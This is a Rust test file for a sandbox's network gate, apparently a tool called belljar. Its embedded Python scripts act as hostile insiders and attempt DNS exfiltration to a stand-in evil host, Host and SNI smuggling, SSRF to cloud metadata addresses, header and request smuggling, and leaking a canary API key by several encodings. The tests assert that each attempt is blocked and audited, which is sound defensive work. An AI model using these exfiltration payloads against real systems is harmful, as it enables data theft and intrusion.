//! The way out of a run, attacked from inside by ordinary programs: a row of the attack list each.

use crate::support::canary::{found_below, spelled_in};
use crate::support::world::{API, EVIL, World};
use crate::support::{Answer, Place};

/// What a program said of each try.
fn said(answer: &Answer) -> Vec<(&str, &str)> {
    answer
        .out
        .lines()
        .filter_map(|line| line.split_once('\t'))
        .collect()
}

/// Every try got one of these answers, and there were so many.
#[track_caller]
fn all(answer: &Answer, count: usize, good: &[&str]) {
    let said = said(answer);
    assert_eq!(said.len(), count, "{answer:?}");
    for (what, got) in said {
        assert!(good.contains(&got), "{what}: {got}\n{answer:?}");
    }
}

#[test]
fn what_is_allowed_is_reached() {
    let world = World::new();
    world.rules("");
    let answer = world.python(
        &[],
        r#"
say("passed through", get(API, PORT))
say("in the clear", raw(API, PLAIN, f"GET / HTTP/1.1\r\nHost: {API}:{PLAIN}\r\nConnection: close\r\n\r\n".encode()))
say("by the proxy", raw("127.0.0.1", 1021, f"GET http://{API}:{PLAIN}/ HTTP/1.1\r\nHost: {API}:{PLAIN}\r\nConnection: close\r\n\r\n".encode()))
say("in another case", get(API.upper() + ".", PORT, sni=API, header=f"{API}:{PORT}"))
"#,
    );
    all(&answer.ok(), 4, &["200"]);
    assert_eq!(world.questions(), 0);
    assert_eq!(world.plain.heard().matches("GET / HTTP/1.1").count(), 2);
}

/// Row 1: names as a way out.
#[test]
fn names_carry_nothing_out() {
    let world = World::new();
    world.rules("");
    let answer = world.python(
        &[],
        r#"
import struct
def question(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
def ask(to, name, kind):
    def what():
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.settimeout(3)
        sock.sendto(question(name, kind), (to, 53))
        answer = sock.recv(4096)
        return {0: "empty", 3: "nxdomain"}.get(answer[3] & 15, "refused") if answer[6:8] == b"\0\0" else "answered"
    return trying(what)
say("look up", trying(lambda: socket.gethostbyname("c3RvbGVu." + EVIL)))
for to in ("127.0.0.1", "8.8.8.8", "10.255.255.53"):
    for kind in (1, 28, 16, 10, 255, 65):
        say(f"{to} {kind}", ask(to, "x" * 63 + "." + EVIL, kind))
    for kind in (16, 10, 28, 65):
        say(f"{to} {kind} allowed", ask(to, API, kind))
    say(f"{to} below", ask(to, "data." + API, 1))
def stream(to, port):
    sock = socket.create_connection((to, port))
    data = question("stolen." + EVIL, 16)
    sock.sendall(struct.pack(">H", len(data)) + data)
    answer = sock.recv(4096)
    return {3: "nxdomain"}.get(answer[5] & 15, "answered") if answer else "closed"
say("tcp", trying(lambda: stream("9.9.9.9", 53)))
say("tls", trying(lambda: stream("9.9.9.9", 853)))
say("https", get("1.1.1.1", 443, sni="cloudflare-dns.com"))
"#,
    );
    let answer = answer.ok();
    all(
        &answer,
        37,
        &[
            "noname",
            "nxdomain",
            "empty",
            "refused",
            "closed",
            "tls",
            "ConnectionResetError",
        ],
    );
    assert_eq!(world.questions(), 0);
}

/// Rows 2 and 3: one name in the greeting, another in the request.
#[test]
fn names_that_differ_are_refused() {
    let world = World::new();
    world.rules("[[deny]]\nhost = \"api.example.test\"\npath = \"/admin\"\n");
    let answer = world.python(
        &[],
        r#"
say("host", get(API, PORT, header=EVIL))
say("host of the other", get(API, PORT, header=f"{SECOND}:{PORT}"))
say("port", get(API, PORT, header=f"{API}:1"))
say("user", get(API, PORT, header=f"user@{API}:{PORT}"))
say("two", get(API, PORT, extra=f"Host: {EVIL}\r\n"))
say("greeting", get(API, PORT, sni=EVIL))
say("greeting of the other", get(API, PORT, sni=SECOND, check=False))
say("no greeting", get(API, PORT, sni=False))
say("homograph", get(API, PORT, sni="аpi.example.test"))
say("path", get(API, PORT, path="/admin/x"))
say("path in disguise", get(API, PORT, path="/x/../%61dmin/x"))
say("absolute", get(API, PORT, path=f"https://{EVIL}/"))
def connect(to, sni):
    def what():
        stream = socket.create_connection(("127.0.0.1", 1021))
        stream.sendall(f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n".encode())
        head = stream.recv(4096)
        if b" 200 " not in head: return head.decode("latin-1").split(" ")[1]
        stream = context().wrap_socket(stream, server_hostname=sni)
        stream.sendall(f"GET / HTTP/1.1\r\nHost: {sni}:{PORT}\r\nConnection: close\r\n\r\n".encode())
        return read(stream)
    return trying(what)
say("connect, other greeting", connect(f"{API}:{PORT}", EVIL))
say("connect to the other", connect(f"{EVIL}:{EVIL_PORT}", EVIL))
say("connect without a port", connect(API, API))
"#,
    );
    all(
        &answer.ok(),
        15,
        &["400", "403", "421", "tls", "closed", "ConnectionResetError"],
    );
    assert_eq!(world.evil.connections(), 0);
    assert_eq!(world.api.heard(), "");
}

/// Rows 4, 6 and 7: addresses in every notation, names that lead inwards, metadata.
#[test]
fn addresses_are_judged_as_addresses() {
    let world = World::new();
    world.rules("");
    let answer = world.python(
        &[],
        r#"
def connect(to):
    return raw("127.0.0.1", 1021, f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n".encode("latin-1"))
for host in ("127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0", "[::1]", "[::ffff:127.0.0.1]",
             "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:7f00:1::]", "[fe80::1%25lo]", "localhost",
             "169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]", "10.0.0.1",
             "192.168.1.1", "1.1.1.1", "127.0.0.1.", "１２７.0.0.1", "rebound.example.test", "metadata.example.test"):
    say(host, connect(f"{host}:{PORT}") if host.isascii() else trying(lambda: connect(host.encode().decode("latin-1") + f":{PORT}")))
for address in ("169.254.169.254", "100.100.100.200", "10.0.0.1", "fd00:ec2::254", "::ffff:169.254.169.254"):
    say("direct " + address, raw(address, 80, b"GET /latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n"))
say("by name", raw("metadata.example.test", 80, b"GET / HTTP/1.1\r\nHost: metadata.example.test\r\n\r\n"))
"#,
    );
    all(
        &answer.ok(),
        31,
        &["400", "403", "502", "closed", "ConnectionResetError"],
    );
    assert_eq!(world.api.connections(), 0);
}

/// Row 5: bytes in a host that mean something to somebody.
#[test]
fn hosts_with_strange_bytes_are_refused() {
    let world = World::new();
    world.rules("");
    let answer = world.python(
        &[],
        r##"
strange = [API.encode() + s + EVIL.encode() for s in (b"\0.", b"\r\n", b"%00.", b"@", b"#", b"/", b"\\", b" ", b"\t", b"?", b"..", b"%2e", b"\x7f", b"\xff")]
for host in strange:
    target = host + f":{PORT}".encode()
    say("connect %r" % host, raw("127.0.0.1", 1021, b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n"))
    def socks():
        stream = socket.create_connection(("127.0.0.1", 1021))
        stream.sendall(b"\x05\x01\x00")
        stream.recv(2)
        stream.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + PORT.to_bytes(2, "big"))
        answer = stream.recv(16)
        return "closed" if not answer or answer[1] else "passed"
    say("socks %r" % host, trying(socks))
"##,
    );
    all(
        &answer.ok(),
        28,
        &["400", "403", "closed", "ConnectionResetError"],
    );
    assert_eq!(world.api.connections() + world.evil.connections(), 0);
}

/// Rows 8, 9 and 10: redirects, upgrades, smuggling, tunnels, slow senders.
#[test]
fn an_allowed_host_is_no_tunnel() {
    let world = World::new();
    world.rules(
        "[[deny]]\nhost = \"api.example.test\"\npath = \"/admin\"\n[host_quota]\ntunnel_seconds = 2\n",
    );
    let answer = world.python(
        &[],
        r#"
say("redirect", get(API, PORT, path="/away"))
say("websocket", get(API, PORT, extra="Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"))
say("h2c", raw(API, PLAIN, f"GET / HTTP/1.1\r\nHost: {API}:{PLAIN}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n".encode()))
say("h2 in the clear", raw(API, PLAIN, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
say("connect", raw(API, PLAIN, f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {API}:{PLAIN}\r\n\r\n".encode()))
say("trace", raw(API, PLAIN, f"TRACE / HTTP/1.1\r\nHost: {API}:{PLAIN}\r\nConnection: close\r\n\r\n".encode()))
say("ssh", raw(API, PORT, b"SSH-2.0-OpenSSH_9.2\r\n"))
say("ssh in the clear", raw(API, PLAIN, b"SSH-2.0-OpenSSH_9.2\r\n"))
say("two lengths", raw(API, PLAIN, f"POST / HTTP/1.1\r\nHost: {API}:{PLAIN}\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde".encode()))
say("folded", raw(API, PLAIN, f"GET / HTTP/1.1\r\nHost: {API}:{PLAIN}\r\nX: a\r\n b\r\n\r\n".encode()))
def long():
    stream = context().wrap_socket(socket.create_connection((SECOND, PORT)), server_hostname=SECOND)
    return read(stream)
say("a tunnel that stays open", trying(long))
"#,
    );
    let answer = answer.ok();
    let good = [
        "302",
        "400",
        "403",
        "405",
        "408",
        "501",
        "505",
        "tls",
        "closed",
        "cut",
        "ConnectionResetError",
        "BrokenPipeError",
    ];
    all(&answer, 11, &good);
    let heard = world.plain.heard();
    for word in ["upgrade", "h2c", "CONNECT", "TRACE", "SSH", "PRI"] {
        assert!(
            !heard.to_lowercase().contains(&word.to_lowercase()),
            "{word}: {heard}"
        );
    }
    assert_eq!(world.evil.connections(), 0);
}

/// Rows 12 and 13: relays inside, and what is beside the gate.
#[test]
fn relays_and_neighbours_change_nothing() {
    let world = World::new();
    world.rules("");
    let answer = world.python(
        &[],
        r#"
import threading
relay = socket.create_server(("127.0.0.1", 0))
def pump():
    while True:
        client, _ = relay.accept()
        gate = socket.create_connection(("127.0.0.1", 1021))
        def copy(a, b):
            try:
                while (data := a.recv(4096)): b.sendall(data)
            except OSError: pass
            b.close()
        for pair in ((client, gate), (gate, client)): threading.Thread(target=copy, args=pair, daemon=True).start()
threading.Thread(target=pump, daemon=True).start()
port = relay.getsockname()[1]
say("relay", raw("127.0.0.1", port, f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n".encode()))
open_ports = []
for one in list(range(1, 1100)) + [PORT, PLAIN, EVIL_PORT]:
    sock = socket.socket(); sock.settimeout(0.2)
    if sock.connect_ex(("127.0.0.1", one)) == 0: open_ports.append(one)
    sock.close()
say("ports", "403" if set(open_ports) <= {53, 1020, 1021, 1022} else open_ports)
say("straight to the door", raw("127.0.0.1", 1020, f"GET / HTTP/1.1\r\nHost: {API}:{PLAIN}\r\n\r\n".encode()))
say("the gate through the gate", raw("127.0.0.1", 1021, b"CONNECT 127.0.0.1:1021 HTTP/1.1\r\nHost: 127.0.0.1:1021\r\n\r\n"))
"#,
    );
    all(
        &answer.ok(),
        4,
        &["400", "403", "closed", "ConnectionResetError"],
    );
    assert_eq!(world.evil.connections(), 0);
}

/// Row 14: what is not inside cannot be sent; what is instead of it is good for nothing else.
#[test]
fn a_secret_goes_nowhere_else() {
    const VALUE: &str = "sk-canary-7f3a9b2c51de";
    let world = World::new();
    world.rules("");
    let host = format!("{API}:{}", world.api.port);
    let mut child = world
        .place
        .command()
        .args(["secret", "set", "API_KEY", "--host", &host])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), VALUE.as_bytes()).unwrap();
    assert!(child.wait().unwrap().success());
    let config = world.place.path("home/.config");
    let shown = world
        .place
        .call(["run", "--read", config.to_str().unwrap(), "--", "true"]);
    assert!(shown.exits(125).err.contains("sealed with lies there"));
    let answer = world.python(
        &["--secret", "API_KEY"],
        r#"
import base64, urllib.parse
key = os.environ["API_KEY"]
bearer = f"Authorization: Bearer {key}\r\n"
say("used", get(API, PORT, path="/used", extra=bearer))
def body(path, extra):
    stream = context().wrap_socket(socket.create_connection((API, PORT)), server_hostname=API)
    stream.sendall(f"GET {path} HTTP/1.1\r\nHost: {API}:{PORT}\r\n{extra}Connection: close\r\n\r\n".encode())
    data = b""
    while (got := stream.recv(65536)): data += got
    return data.decode("latin-1")
print(body("/echo", bearer).replace("\t", " "))
coded = base64.b64encode(b"user:" + key.encode()).decode()
for what, extra, path in (
    ("header", bearer, "/"), ("odd case", f"aUTHORIZATION: bearer {key}\r\n", "/"), ("another header", f"X-Note: {key}\r\n", "/"),
    ("basic", f"Authorization: Basic {coded}\r\n", "/"), ("query", "", "/?k=" + urllib.parse.quote(key)),
    ("path", "", "/" + key), ("spelled", "", "/?k=" + "".join("%%%02x" % b for b in key.encode()))):
    say(what, get(SECOND, PORT, path=path, extra=extra))
say("elsewhere in its own host", get(API, PORT, path="/?k=" + key))
say("as a name", trying(lambda: socket.gethostbyname(key[:60] + "." + EVIL)))
open("/tmp/loot", "w").write(key)
"#,
    );
    let answer = answer.ok();
    let said = said(&answer);
    assert_eq!(said.first(), Some(&("used", "200")), "{answer:?}");
    for (what, got) in said.iter().skip(1) {
        assert!(["403", "noname"].contains(got), "{what}: {got}\n{answer:?}");
    }
    assert_eq!(said.len(), 10, "{answer:?}");
    assert!(answer.out.contains("Bearer ****"), "{answer:?}");
    // Twice for the two allowed requests; nobody else heard the value or the placeholder.
    let heard = world.api.heard();
    assert_eq!(heard.matches(VALUE).count(), 2, "{heard}");
    assert!(!heard.contains("belljar-secret"), "{heard}");
    assert_eq!(spelled_in(answer.out.as_bytes(), VALUE), None);
    assert_eq!(spelled_in(answer.err.as_bytes(), VALUE), None);
    assert_eq!(
        found_below(&world.place.path("state"), VALUE),
        Vec::<String>::new()
    );
    let shown = world.place.call(["audit", "show", &answer.run()]).ok();
    assert!(
        shown.out.matches("secret.misused").count() >= 7,
        "{}",
        shown.out
    );
}

/// What a person sees, and can change while the run goes on.
#[test]
fn attempts_are_listed_and_can_be_granted() {
    let world = World::new();
    world.rules("");
    let run = std::thread::scope(|scope| {
        let running = scope.spawn(|| {
            world.python(
                &[],
                r#"
import time
say("before", get(EVIL, EVIL_PORT))
for _ in range(100):
    if trying(lambda: socket.gethostbyname(EVIL)) != "noname": break
    time.sleep(0.2)
say("after", trying(lambda: socket.gethostbyname(EVIL)).split(".")[0])
"#,
            )
        });
        let rule = format!("https://{EVIL}:{}", world.evil.port);
        let patience = std::time::Duration::from_millis(200);
        let denied = (0..100).any(|_| {
            std::thread::sleep(patience);
            let list = world.place.call(["audit", "show", "last", "--network"]);
            list.out.contains("deny") && list.out.contains(EVIL)
        });
        assert!(denied);
        world.place.call(["allow", "last", &rule]).ok();
        running.join().unwrap()
    });
    let run = run.ok();
    assert_eq!(
        said(&run),
        [("before", "noname"), ("after", "198")],
        "{run:?}"
    );
    let attempts = world.attempts(&run.run());
    let denied = ["deny", "dns", EVIL, "egress.host_denied"].map(str::to_owned);
    assert!(attempts.contains(&denied), "{attempts:?}");
    assert!(
        run.json()["network"]["denied"].as_u64() >= Some(1),
        "{run:?}"
    );
    let late = world.place.call(["allow", &run.run(), EVIL]).exits(125);
    assert!(
        late.err.contains("is not running with a network"),
        "{late:?}"
    );
}

#[test]
fn what_is_asked_for_wrongly_is_answered() {
    let place = Place::new();
    for (option, value, expected) in [
        ("--allow", "*", "name the host"),
        ("--allow", "*.co.uk", "write `*.example.co.uk`"),
        (
            "--allow",
            "https://me:pw@example.com/x",
            "https://example.com/x",
        ),
        ("--allow", "example.com:0", "port"),
        ("--secret", "nothing", "nothing"),
        ("--network", "missing.toml", "cannot read the rules"),
        ("--publish", "70000", "write PORT or PORT:HOSTPORT"),
    ] {
        let answer = place.call(["run", option, value, "--", "true"]).exits(125);
        assert!(
            answer.err.contains(expected),
            "{option} {value}: {answer:?}"
        );
        assert_eq!(answer.err.lines().count(), 1, "{answer:?}");
        assert!(!answer.err.contains("pw"), "{answer:?}");
    }
}

/// The policy of the host holds whatever a run asks for.
#[test]
fn the_host_has_the_last_word() {
    let world = World::new();
    let config = world.place.path("home/.config/belljar");
    std::fs::create_dir_all(&config).unwrap();
    let policy = format!("[[deny]]\nhost = \"{API}\"\n");
    std::fs::write(config.join("network.toml"), policy).unwrap();
    world.rules("");
    let answer = world.python(&[], "say('denied', get(API, PORT))").ok();
    all(&answer, 1, &["noname"]);
    world.rules("mode = \"observe\"\n");
    let answer = world.python(&[], "say('asked', 1)").exits(126);
    assert!(
        answer.err.contains("egress.observe-not-permitted"),
        "{answer:?}"
    );
    std::fs::write(config.join("network.toml"), "mode = \"observe\"\n").unwrap();
    let answer = world.python(
        &[],
        "say('observed', trying(lambda: socket.gethostbyname(EVIL)).split('.')[0])",
    );
    all(&answer.ok(), 1, &["198"]);
}

#[test]
fn a_server_inside_is_reached_at_its_published_port_alone() {
    let place = Place::new();
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = free.local_addr().unwrap().port();
    drop(free);
    let publish = format!("8000:{port}");
    let answer = std::thread::scope(|scope| {
        let script = "import socket\ns = socket.create_server(('127.0.0.1', 8000))\nc, _ = s.accept()\n\
                      c.sendall(b'hello ' + c.recv(100))\nc.close()";
        let run = scope.spawn(|| {
            place.call([
                "run",
                "--json",
                "--publish",
                &publish,
                "--",
                "python3",
                "-c",
                script,
            ])
        });
        let answered = (0..100).find_map(|_| {
            std::thread::sleep(std::time::Duration::from_millis(100));
            let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
            std::io::Write::write_all(&mut stream, b"world").ok()?;
            let mut text = String::new();
            std::io::Read::read_to_string(&mut stream, &mut text).ok()?;
            (!text.is_empty()).then_some(text)
        });
        assert_eq!(answered.as_deref(), Some("hello world"));
        run.join().unwrap().ok()
    });
    let shown = place
        .call(["audit", "show", &answer.run(), "--network"])
        .ok();
    assert!(shown.out.contains("publish://127.0.0.1:8000"), "{shown:?}");
    assert!(std::net::TcpStream::connect(("127.0.0.1", port)).is_err());
}
